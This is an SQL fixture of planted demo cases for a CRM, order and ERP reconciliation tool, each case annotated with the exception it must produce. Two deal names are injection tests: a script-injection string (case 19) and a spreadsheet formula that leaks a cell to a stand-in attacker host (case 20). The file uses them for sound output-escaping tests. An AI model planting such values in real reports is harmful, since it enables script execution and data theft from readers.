-- Planted demo cases: fixed keys in the 99000000 range (generated rows
-- use 1..N), each producing one known outcome. tools/gen-demo.sh runs this
-- with crm.db as main and orders.db / erp.db attached, so table names are
-- unqualified.
--
-- Every `-- expect: CODE KEY` line below is collected by tools/gen-demo.sh
-- into expected.txt (sorted): exactly those exceptions must be reported.
-- KEY is the canonical key the demo rules produce: deals "D-<number>",
-- orders "SO-<number>" (rules/demo/translate.lua), translation failures
-- "SOURCE:ID" with the raw id-column value. MATCHED, PENDING_ORDER and
-- PENDING_ERP are not exceptions: those keys must not be in the report,
-- and their store record must carry exactly that outcome.
-- `-- expect: nothing KEY` rows must produce no group at all.
--
-- As-of for the demo: 2026-11-26 00:00:00. Grace: deal 24h, ERP 3d.
-- Planted rows default to: deal closed 2026-11-02 09:00, order created
-- 11:00 the same day, ERP sales order at 12:00, invoices on 2026-11-04,
-- and no delivery date (NULL: the rule delivery_date compares only dates
-- that are there; case 41 carries them).
-- docs/DEMO.md has the same table in prose.

-- 01 A won deal with no order, past the 24h grace.
-- expect: DEAL_WITHOUT_ORDER D-99000001
INSERT INTO crm_deal VALUES ('D-99000001', 'Nordwind Logistik GmbH – fleet renewal', 'acc-0101', 1200.00, 1, 'Closed Won', '2026-11-20 10:00:00', 0);

-- 02 A deal closed one hour before as-of: still within grace (PENDING_ORDER).
-- expect: PENDING_ORDER D-99000002
INSERT INTO crm_deal VALUES ('D-99000002', 'Late Friday Deal AG', 'acc-0102', 990.00, 1, 'Closed Won', '2026-11-25 23:00:00', 0);

-- 03 An order whose deal reference names no deal; invoiced in full.
-- expect: ORDER_WITHOUT_DEAL SO-99000003
INSERT INTO orders VALUES ('SO-99000003', 'D-99000903', 'C0103', 450.00, 'EUR', 'SHIPPED', '2026-11-02 11:00:00', NULL);
INSERT INTO erp_doc VALUES ('SO-99000003', 'SO', 'SO99000003  ', 'CUST-103', 450.00, NULL, 'EUR', 'P', '2026-11-02 12:00:00', NULL);
INSERT INTO erp_doc VALUES ('INV-99000003', 'INV', 'SO99000003  ', 'CUST-103', 450.00, NULL, 'EUR', 'P', '2026-11-04 10:00:00', NULL);

-- 04 Deal and order agree, but the ERP never saw the order (3d grace over).
-- expect: ORDER_NOT_IN_ERP SO-99000004
INSERT INTO crm_deal VALUES ('D-99000004', 'Fjord Shipping AS', 'acc-0104', 2100.00, 6, 'Closed Won', '2026-11-10 08:00:00', 0);
INSERT INTO orders VALUES ('SO-99000004', 'd-99000004', 'C0104', 2100.00, 'SEK', 'NEW', '2026-11-10 09:00:00', NULL);

-- 05 Same, but the order is 36 hours old: within grace (PENDING_ERP).
-- expect: PENDING_ERP SO-99000005
INSERT INTO crm_deal VALUES ('D-99000005', 'Brand New Order Ltd', 'acc-0105', 310.00, 3, 'Closed Won', '2026-11-24 10:00:00', 0);
INSERT INTO orders VALUES ('SO-99000005', 'D-99000005', 'C0105', 310.00, 'GBP', 'NEW', '2026-11-24 12:00:00', NULL);

-- 06 An ERP invoice for an order the order system does not have.
-- expect: ERP_WITHOUT_ORDER SO-99000906
INSERT INTO erp_doc VALUES ('INV-99000006', 'INV', 'SO99000906  ', 'CUST-106', 780.00, NULL, 'EUR', 'P', '2026-11-04 10:00:00', NULL);

-- 07 The order was entered for less than the deal; ERP follows the order.
-- expect: AMOUNT_MISMATCH_DEAL_ORDER SO-99000007
INSERT INTO crm_deal VALUES ('D-99000007', 'Alpenblick Hotels AG', 'acc-0107', 5000.00, 5, 'Closed Won', '2026-11-02 09:00:00', 0);
INSERT INTO orders VALUES ('SO-99000007', 'D-99000007', 'C0107', 4500.00, 'CHF', 'SHIPPED', '2026-11-02 11:00:00', NULL);
INSERT INTO erp_doc VALUES ('SO-99000007', 'SO', 'SO99000007  ', 'CUST-107', 4500.00, NULL, 'CHF', 'P', '2026-11-02 12:00:00', NULL);
INSERT INTO erp_doc VALUES ('INV-99000007', 'INV', 'SO99000007  ', 'CUST-107', 4500.00, NULL, 'CHF', 'P', '2026-11-04 10:00:00', NULL);

-- 08 Two partial invoices and a credit note net to 2300.00, not 3000.00.
-- expect: AMOUNT_MISMATCH_ORDER_ERP SO-99000008
INSERT INTO crm_deal VALUES ('D-99000008', 'Gebrüder Weiß Spedition', 'acc-0108', 3000.00, 1, 'Closed Won', '2026-11-02 09:00:00', 0);
INSERT INTO orders VALUES ('SO-99000008', 'D-99000008', 'C0108', 3000.00, 'EUR', 'SHIPPED', '2026-11-02 11:00:00', NULL);
INSERT INTO erp_doc VALUES ('SO-99000008', 'SO', 'SO99000008  ', 'CUST-108', 3000.00, NULL, 'EUR', 'P', '2026-11-02 12:00:00', NULL);
INSERT INTO erp_doc VALUES ('INV-99000008', 'INV', 'SO99000008  ', 'CUST-108', 1000.00, NULL, 'EUR', 'P', '2026-11-04 10:00:00', NULL);
INSERT INTO erp_doc VALUES ('INV-99000108', 'INV', 'SO99000008  ', 'CUST-108', 1500.00, NULL, 'EUR', 'P', '2026-11-05 10:00:00', NULL);
INSERT INTO erp_doc VALUES ('CN-99000008', 'CN', 'SO99000008  ', 'CUST-108', -200.00, NULL, 'EUR', 'P', '2026-11-06 10:00:00', NULL);

-- 09 Matches only because drafts and cancelled documents do not count:
-- posted 1200 + 800 = 2000; a draft invoice (500), a cancelled invoice
-- (2000) and a draft credit note (-300) are ignored.
-- expect: MATCHED SO-99000009
INSERT INTO crm_deal VALUES ('D-99000009', 'Société Générale de Transports', 'acc-0109', 2000.00, 1, 'Closed Won', '2026-11-02 09:00:00', 0);
INSERT INTO orders VALUES ('SO-99000009', ' d-99000009', 'C0109', 2000.00, 'eur', 'SHIPPED', '2026-11-02 11:00:00', NULL);
INSERT INTO erp_doc VALUES ('SO-99000009', 'SO', 'SO99000009  ', 'CUST-109', 2000.00, NULL, 'EUR', 'P', '2026-11-02 12:00:00', NULL);
INSERT INTO erp_doc VALUES ('INV-99000009', 'INV', 'SO99000009  ', 'CUST-109', 1200.00, NULL, 'EUR', 'P', '2026-11-04 10:00:00', NULL);
INSERT INTO erp_doc VALUES ('INV-99000109', 'INV', 'SO99000009  ', 'CUST-109', 800.00, NULL, 'EUR', 'P', '2026-11-05 10:00:00', NULL);
INSERT INTO erp_doc VALUES ('INV-99000209', 'INV', 'SO99000009  ', 'CUST-109', 500.00, NULL, 'EUR', 'D', '2026-11-06 10:00:00', NULL);
INSERT INTO erp_doc VALUES ('INV-99000309', 'INV', 'SO99000009  ', 'CUST-109', 2000.00, NULL, 'EUR', 'X', '2026-11-03 10:00:00', NULL);
INSERT INTO erp_doc VALUES ('CN-99000009', 'CN', 'SO99000009  ', 'CUST-109', -300.00, NULL, 'EUR', 'D', '2026-11-07 10:00:00', NULL);

-- 10 Partial invoices and a credit note that do net to the order amount
-- (1500 + 1300 - 300 = 2500), one of them migrated with a text amount.
-- expect: MATCHED SO-99000010
INSERT INTO crm_deal VALUES ('D-99000010', 'Müller GmbH – Wartungsvertrag', 'acc-mueller', 2500.00, 1, 'Closed Won', '2026-11-02 09:00:00', 0);
INSERT INTO orders VALUES ('SO-99000010', 'D99000010 ', 'C0007', 2500.00, 'EUR', 'SHIPPED', '2026-11-02 11:00:00', NULL);
INSERT INTO erp_doc VALUES ('SO-99000010', 'SO', 'SO99000010  ', 'CUST-7', 2500.00, NULL, 'EUR', 'P', '2026-11-02 12:00:00', NULL);
INSERT INTO erp_doc VALUES ('INV-99000010', 'INV', 'SO99000010  ', 'CUST-7', 1500.00, NULL, 'EUR', 'P', '2026-11-04 10:00:00', NULL);
INSERT INTO erp_doc VALUES ('MIG-99000010', 'INV', 'SO99000010  ', 'CUST-7', NULL, '1300.00', 'EUR', 'P', '2026-11-05 10:00:00', NULL);
INSERT INTO erp_doc VALUES ('CN-99000010', 'CN', 'SO99000010  ', 'CUST-7', -300.00, NULL, 'EUR', 'P', '2026-11-06 10:00:00', NULL);

-- 11 The order was keyed in USD for a EUR deal (same figure).
-- expect: CURRENCY_MISMATCH SO-99000011
INSERT INTO crm_deal VALUES ('D-99000011', 'Transatlantic Parts Inc.', 'acc-0111', 700.00, 1, 'Closed Won', '2026-11-02 09:00:00', 0);
INSERT INTO orders VALUES ('SO-99000011', 'D-99000011', 'C0111', 700.00, 'USD', 'SHIPPED', '2026-11-02 11:00:00', NULL);
INSERT INTO erp_doc VALUES ('SO-99000011', 'SO', 'SO99000011  ', 'CUST-111', 700.00, NULL, 'USD', 'P', '2026-11-02 12:00:00', NULL);
INSERT INTO erp_doc VALUES ('INV-99000011', 'INV', 'SO99000011  ', 'CUST-111', 700.00, NULL, 'USD', 'P', '2026-11-04 10:00:00', NULL);

-- 12 The order went to the wrong customer (C0043 instead of acc-0042).
-- expect: CUSTOMER_MISMATCH SO-99000012
INSERT INTO crm_deal VALUES ('D-99000012', 'Ørsted Wind Service A/S', 'acc-0042', 1650.00, 1, 'Closed Won', '2026-11-02 09:00:00', 0);
INSERT INTO orders VALUES ('SO-99000012', 'D-99000012', 'C0043', 1650.00, 'EUR', 'SHIPPED', '2026-11-02 11:00:00', NULL);
INSERT INTO erp_doc VALUES ('SO-99000012', 'SO', 'SO99000012  ', 'CUST-43', 1650.00, NULL, 'EUR', 'P', '2026-11-02 12:00:00', NULL);
INSERT INTO erp_doc VALUES ('INV-99000012', 'INV', 'SO99000012  ', 'CUST-43', 1650.00, NULL, 'EUR', 'P', '2026-11-04 10:00:00', NULL);

-- 13 One deal, two orders (entered twice under different numbers), each
-- invoiced: both orders are reported.
-- expect: DUPLICATE_ORDERS SO-99000013
-- expect: DUPLICATE_ORDERS SO-99000113
INSERT INTO crm_deal VALUES ('D-99000013', 'Doppelt & Co. KG', 'acc-0113', 1000.00, 1, 'Closed Won', '2026-11-02 09:00:00', 0);
INSERT INTO orders VALUES ('SO-99000013', 'D-99000013', 'C0113', 1000.00, 'EUR', 'SHIPPED', '2026-11-02 11:00:00', NULL);
INSERT INTO orders VALUES ('SO-99000113', 'd-99000013', 'C0113', 1000.00, 'EUR', 'SHIPPED', '2026-11-02 11:30:00', NULL);
INSERT INTO erp_doc VALUES ('INV-99000013', 'INV', 'SO99000013  ', 'CUST-113', 1000.00, NULL, 'EUR', 'P', '2026-11-04 10:00:00', NULL);
INSERT INTO erp_doc VALUES ('INV-99000113', 'INV', 'SO99000113  ', 'CUST-113', 1000.00, NULL, 'EUR', 'P', '2026-11-04 11:00:00', NULL);

-- 14 The same order row loaded twice into the order system. Both copies
-- agree with the deal and the ERP; only the duplicate key is reported.
-- expect: DUPLICATE_KEY SO-99000014
INSERT INTO crm_deal VALUES ('D-99000014', 'Reimport Retail BV', 'acc-0114', 880.00, 1, 'Closed Won', '2026-11-02 09:00:00', 0);
INSERT INTO orders VALUES ('SO-99000014', 'D-99000014', 'C0114', 880.00, 'EUR', 'SHIPPED', '2026-11-02 11:00:00', NULL);
INSERT INTO orders VALUES ('SO-99000014', 'D-99000014', 'C0114', 880.00, 'EUR', 'SHIPPED', '2026-11-02 11:00:00', NULL);
INSERT INTO erp_doc VALUES ('INV-99000014', 'INV', 'SO99000014  ', 'CUST-114', 880.00, NULL, 'EUR', 'P', '2026-11-04 10:00:00', NULL);

-- 15 The order was cancelled but the ERP invoiced it anyway.
-- expect: CANCELLED_INVOICED SO-99000015
INSERT INTO crm_deal VALUES ('D-99000015', 'Storno Elektro GmbH', 'acc-0115', 900.00, 1, 'Closed Won', '2026-11-02 09:00:00', 0);
INSERT INTO orders VALUES ('SO-99000015', 'D-99000015', 'C0115', 900.00, 'EUR', 'CANCELLED', '2026-11-02 11:00:00', NULL);
INSERT INTO erp_doc VALUES ('INV-99000015', 'INV', 'SO99000015  ', 'CUST-115', 900.00, NULL, 'EUR', 'P', '2026-11-04 10:00:00', NULL);

-- 16 The order was never priced (total_amount NULL).
-- expect: MISSING_AMOUNT SO-99000016
INSERT INTO crm_deal VALUES ('D-99000016', 'Unpriced Widgets Ltd', 'acc-0116', 650.00, 3, 'Closed Won', '2026-11-02 09:00:00', 0);
INSERT INTO orders VALUES ('SO-99000016', 'D-99000016', 'C0116', NULL, 'GBP', 'SHIPPED', '2026-11-02 11:00:00', NULL);
INSERT INTO erp_doc VALUES ('INV-99000016', 'INV', 'SO99000016  ', 'CUST-116', 650.00, NULL, 'GBP', 'P', '2026-11-04 10:00:00', NULL);

-- 17 A CRM currency id the rules do not know (99): the translation rule
-- raises, the deal is reported as a rule error and goes no further.
-- expect: RULE_ERROR crm:D-99000017
INSERT INTO crm_deal VALUES ('D-99000017', 'Unknown Currency Traders', 'acc-0117', 100.00, 99, 'Closed Won', '2026-11-02 09:00:00', 0);

-- 18 A migrated ERP document whose legacy amount text is garbage
-- ('1.234,5O': European separators and a letter O): money() raises.
-- expect: RULE_ERROR erp:MIG-99000018
INSERT INTO erp_doc VALUES ('MIG-99000018', 'INV', 'SO99000918  ', 'CUST-118', NULL, '1.234,5O', 'EUR', 'P', '2026-11-04 10:00:00', NULL);

-- 19 A deal whose name is an HTML injection: the HTML report must escape it.
-- expect: DEAL_WITHOUT_ORDER D-99000019
INSERT INTO crm_deal VALUES ('D-99000019', '<script>alert(1)</script>', 'acc-0119', 119.00, 1, 'Closed Won', '2026-11-01 09:00:00', 0);

-- 20 A deal whose name is an Excel formula: the CSV report must defuse it.
-- expect: DEAL_WITHOUT_ORDER D-99000020
INSERT INTO crm_deal VALUES ('D-99000020', '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")', 'acc-0120', 120.00, 1, 'Closed Won', '2026-11-01 09:00:00', 0);

-- 21 A soft-deleted won deal without order: excluded by the job's query.
-- expect: nothing D-99000021
INSERT INTO crm_deal VALUES ('D-99000021', 'Deleted By Mistake SARL', 'acc-0121', 2100.00, 1, 'Closed Won', '2026-11-01 09:00:00', 1);

-- 22 A lost deal without order: skipped by the translation rule.
-- expect: nothing D-99000022
INSERT INTO crm_deal VALUES ('D-99000022', 'Lost Cause Holdings', 'acc-0122', 2200.00, 1, 'Closed Lost', '2026-11-01 09:00:00', 0);

-- 23 The order is 0.01 above the deal: within the default tolerance.
-- expect: MATCHED SO-99000023
INSERT INTO crm_deal VALUES ('D-99000023', 'Penny Rounding Oy', 'acc-0123', 1000.00, 1, 'Closed Won', '2026-11-02 09:00:00', 0);
INSERT INTO orders VALUES ('SO-99000023', 'D-99000023', 'C0123', 1000.01, 'EUR', 'SHIPPED', '2026-11-02 11:00:00', NULL);
INSERT INTO erp_doc VALUES ('INV-99000023', 'INV', 'SO99000023  ', 'CUST-123', 1000.01, NULL, 'EUR', 'P', '2026-11-04 10:00:00', NULL);

-- 24 JPY, one yen apart: within the JPY tolerance of 1.
-- expect: MATCHED SO-99000024
INSERT INTO crm_deal VALUES ('D-99000024', '株式会社さくら商事', 'acc-0124', 150000, 4, 'Closed Won', '2026-11-02 09:00:00', 0);
INSERT INTO orders VALUES ('SO-99000024', 'D-99000024', 'C0124', 150001, 'JPY', 'SHIPPED', '2026-11-02 11:00:00', NULL);
INSERT INTO erp_doc VALUES ('INV-99000024', 'INV', 'SO99000024  ', 'CUST-124', 150001, NULL, 'JPY', 'P', '2026-11-04 10:00:00', NULL);

-- 25 JPY, two yen apart: outside the JPY tolerance.
-- expect: AMOUNT_MISMATCH_DEAL_ORDER SO-99000025
INSERT INTO crm_deal VALUES ('D-99000025', '大阪精密工業株式会社', 'acc-0125', 80000, 4, 'Closed Won', '2026-11-02 09:00:00', 0);
INSERT INTO orders VALUES ('SO-99000025', 'D-99000025', 'C0125', 80002, 'JPY', 'SHIPPED', '2026-11-02 11:00:00', NULL);
INSERT INTO erp_doc VALUES ('INV-99000025', 'INV', 'SO99000025  ', 'CUST-125', 80002, NULL, 'JPY', 'P', '2026-11-04 10:00:00', NULL);

-- 26 The ERP invoiced 0.02 less than the order: just outside tolerance.
-- expect: AMOUNT_MISMATCH_ORDER_ERP SO-99000026
INSERT INTO crm_deal VALUES ('D-99000026', 'Two Cents Short LLC', 'acc-0126', 1000.00, 2, 'Closed Won', '2026-11-02 09:00:00', 0);
INSERT INTO orders VALUES ('SO-99000026', 'D-99000026', 'C0126', 1000.00, 'USD', 'SHIPPED', '2026-11-02 11:00:00', NULL);
INSERT INTO erp_doc VALUES ('INV-99000026', 'INV', 'SO99000026  ', 'CUST-126', 999.98, NULL, 'USD', 'P', '2026-11-04 10:00:00', NULL);

-- 27 The ERP invoiced half in EUR and half in USD (mixed currencies).
-- expect: CURRENCY_MISMATCH SO-99000027
INSERT INTO crm_deal VALUES ('D-99000027', 'Zweiwährung Handels AG', 'acc-0127', 1000.00, 1, 'Closed Won', '2026-11-02 09:00:00', 0);
INSERT INTO orders VALUES ('SO-99000027', 'D-99000027', 'C0127', 1000.00, 'EUR', 'SHIPPED', '2026-11-02 11:00:00', NULL);
INSERT INTO erp_doc VALUES ('INV-99000027', 'INV', 'SO99000027  ', 'CUST-127', 500.00, NULL, 'EUR', 'P', '2026-11-04 10:00:00', NULL);
INSERT INTO erp_doc VALUES ('INV-99000127', 'INV', 'SO99000027  ', 'CUST-127', 500.00, NULL, 'USD', 'P', '2026-11-05 10:00:00', NULL);

-- 28 Grace boundary: closed exactly 24h before as-of, so time + grace =
-- as-of and the deal is overdue.
-- expect: DEAL_WITHOUT_ORDER D-99000028
INSERT INTO crm_deal VALUES ('D-99000028', 'Exactly One Day Ltd', 'acc-0128', 280.00, 1, 'Closed Won', '2026-11-25 00:00:00', 0);

-- 40 Deal, order and invoice agree, but the customer is on credit hold
-- (rules/demo/blocked_customers.csv, a reference table): only the
-- reference data can tell.
-- (a code the engine does not know: outcome RULE_FAILED, code kept)
-- expect: RULE_FAILED SO-99000040
INSERT INTO crm_deal VALUES ('D-99000040', 'Insolvent Traders Ltd', 'acc-9140', 640.00, 1, 'Closed Won', '2026-11-02 09:00:00', 0);
INSERT INTO orders VALUES ('SO-99000040', 'D-99000040', 'C9140', 640.00, 'EUR', 'SHIPPED', '2026-11-02 11:00:00', NULL);
INSERT INTO erp_doc VALUES ('SO-99000040', 'SO', 'SO99000040  ', 'CUST-9140', 640.00, NULL, 'EUR', 'P', '2026-11-02 12:00:00', NULL);
INSERT INTO erp_doc VALUES ('INV-99000040', 'INV', 'SO99000040  ', 'CUST-9140', 640.00, NULL, 'EUR', 'P', '2026-11-04 10:00:00', NULL);

-- 41 Deal, order and ERP agree on everything the engine knows, but the
-- invoice is for another delivery date than the order (2026-11-12, the
-- order 2026-11-09): only the job's site-defined field delivery_date
-- (<fields> in jobs/orders-nightly.xml) can tell. The sales order
-- document carries the order's date. Outcome RULE_FAILED, code
-- DELIVERY_DATE_MISMATCH, naming INV-99000041 and both dates.
-- expect: RULE_FAILED SO-99000041
INSERT INTO crm_deal VALUES ('D-99000041', 'Late Freight Ltd', 'acc-0141', 720.00, 1, 'Closed Won', '2026-11-02 09:00:00', 0);
INSERT INTO orders VALUES ('SO-99000041', 'D-99000041', 'C0141', 720.00, 'EUR', 'SHIPPED', '2026-11-02 11:00:00', '2026-11-09');
INSERT INTO erp_doc VALUES ('SO-99000041', 'SO', 'SO99000041  ', 'CUST-141', 720.00, NULL, 'EUR', 'P', '2026-11-02 12:00:00', '2026-11-09');
INSERT INTO erp_doc VALUES ('INV-99000041', 'INV', 'SO99000041  ', 'CUST-141', 720.00, NULL, 'EUR', 'P', '2026-11-04 10:00:00', '2026-11-12');

-- 29 Two findings on one order: wrong amount and wrong customer.
-- expect: AMOUNT_MISMATCH_DEAL_ORDER SO-99000029
-- expect: CUSTOMER_MISMATCH SO-99000029
INSERT INTO crm_deal VALUES ('D-99000029', 'Smith, Jones & "Partners"', 'acc-0129', 400.00, 1, 'Closed Won', '2026-11-02 09:00:00', 0);
INSERT INTO orders VALUES ('SO-99000029', 'D-99000029', 'C0130', 450.00, 'EUR', 'SHIPPED', '2026-11-02 11:00:00', NULL);
INSERT INTO erp_doc VALUES ('INV-99000029', 'INV', 'SO99000029  ', 'CUST-130', 450.00, NULL, 'EUR', 'P', '2026-11-04 10:00:00', NULL);

-- 30 An order cancelled before anything was posted: the ERP documents are
-- cancelled too, nothing to invoice, not an exception.
-- expect: MATCHED SO-99000030
INSERT INTO crm_deal VALUES ('D-99000030', 'Changed Their Mind GmbH', 'acc-0130', 300.00, 1, 'Closed Won', '2026-11-02 09:00:00', 0);
INSERT INTO orders VALUES ('SO-99000030', 'D-99000030', 'C0130', 300.00, 'EUR', 'CANCELLED', '2026-11-02 11:00:00', NULL);
INSERT INTO erp_doc VALUES ('SO-99000030', 'SO', 'SO99000030  ', 'CUST-130', 300.00, NULL, 'EUR', 'X', '2026-11-02 12:00:00', NULL);

-- 31 Deal and order agree, but one of the ERP's two invoices was billed to
-- another customer (CUST-231): only the per-document view o.erp.docs can
-- see it; the rule's message names INV-99000131.
-- expect: CUSTOMER_MISMATCH SO-99000031
INSERT INTO crm_deal VALUES ('D-99000031', 'Split Billing Oy', 'acc-0131', 600.00, 1, 'Closed Won', '2026-11-02 09:00:00', 0);
INSERT INTO orders VALUES ('SO-99000031', 'D-99000031', 'C0131', 600.00, 'EUR', 'SHIPPED', '2026-11-02 11:00:00', NULL);
INSERT INTO erp_doc VALUES ('INV-99000031', 'INV', 'SO99000031  ', 'CUST-131', 300.00, NULL, 'EUR', 'P', '2026-11-04 10:00:00', NULL);
INSERT INTO erp_doc VALUES ('INV-99000131', 'INV', 'SO99000031  ', 'CUST-231', 300.00, NULL, 'EUR', 'P', '2026-11-05 10:00:00', NULL);

-- 32 A draft and a cancelled invoice for an order that does not exist:
-- nothing is posted, and the demo job's erp-without-order="posted" judges
-- documents without an order by the status rule of linked ones, so the
-- group is not reported (and not published).
-- expect: nothing SO-99000932
INSERT INTO erp_doc VALUES ('INV-99000032', 'INV', 'SO99000932  ', 'CUST-132', 250.00, NULL, 'EUR', 'D', '2026-11-04 10:00:00', NULL);
INSERT INTO erp_doc VALUES ('INV-99000132', 'INV', 'SO99000932  ', 'CUST-132', 250.00, NULL, 'EUR', 'X', '2026-11-05 10:00:00', NULL);
